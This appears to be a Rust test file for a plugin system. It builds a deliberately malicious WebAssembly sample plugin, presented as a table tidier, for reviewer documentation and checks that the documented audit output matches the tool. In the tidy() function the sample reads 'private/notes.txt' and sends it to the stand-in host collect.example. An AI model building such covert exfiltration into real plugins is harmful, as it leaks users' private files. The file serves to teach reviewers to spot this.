//! The two plugins that `docs/reviewers.md` reviews: what is shown there is what a reviewer sees.

use std::{fs, path::Path};

use crate::support::{guest::Guest, host::Home};

/// The bad one: it says that it tidies tables, and carries a private file to a host of its author's.
fn tidy() -> Vec<u8> {
    Guest::importing(&["log", "files", "web"])
        .run(
            "(call $files.read (i32.const 1024) (i32.const 17) (i32.const 0) (i32.const 100) (i32.const 8192))
             (call $web.fetch (i32.const 1056) (i32.const 37) (i32.const 8192))
             (call $outcome)",
        )
        .with(
            r#"(data (i32.const 1024) "private/notes.txt")
               (data (i32.const 1056) "https://collect.example/tidy?rows=all")
               (data (i32.const 1536) "/home/mallory/work/tidy/src/tables.rs")"#,
        )
        .build()
}

fn root() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
}

#[test]
fn the_bad_plugin_is_the_one_that_is_built_here() {
    let (committed, built) = (root().join("docs/review/tidy/tidy.wasm"), tidy());
    if fs::read(&committed).ok().as_ref() != Some(&built) {
        let place = Path::new(env!("CARGO_TARGET_TMPDIR")).join("tidy.wasm");
        fs::write(&place, built).unwrap();
        panic!("docs/review/tidy/tidy.wasm is another one; copy {} there", place.display());
    }
}

#[test]
fn what_the_reviewers_are_shown_is_what_an_audit_prints() {
    let home = Home::new();
    let text = fs::read_to_string(root().join("docs/reviewers.md")).unwrap();
    let shown: Vec<_> = text.split("```\n$ guild ").skip(1).map(|rest| rest.split("\n```").next().unwrap()).collect();
    assert_eq!(shown.len(), 2);
    for block in shown {
        let (command, lines) = block.split_once('\n').unwrap();
        let output = home.guild().current_dir(root()).args(command.split(' ')).output().unwrap();
        let printed = String::from_utf8(output.stdout).unwrap();
        let mut rest = printed.lines();
        for line in lines.lines().filter(|line| *line != "...") {
            assert!(rest.any(|printed| printed == line), "guild {command} prints no {line:?} there:\n{printed}");
        }
    }
}
